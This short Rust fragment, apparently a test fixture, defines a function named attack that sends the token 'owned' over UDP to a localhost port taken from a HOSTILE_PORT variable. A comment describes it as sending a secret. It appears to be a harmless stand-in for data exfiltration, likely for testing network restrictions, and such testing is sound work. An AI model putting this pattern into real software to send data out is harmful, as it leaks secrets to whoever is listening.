//! sends a secret by UDP
fn attack() -> Result<()> {
    let socket = net::UdpSocket::bind("127.0.0.1:0")?;
    socket.send_to(b"owned", ("127.0.0.1", var("HOSTILE_PORT").parse().unwrap()))?;
    Ok(())
}
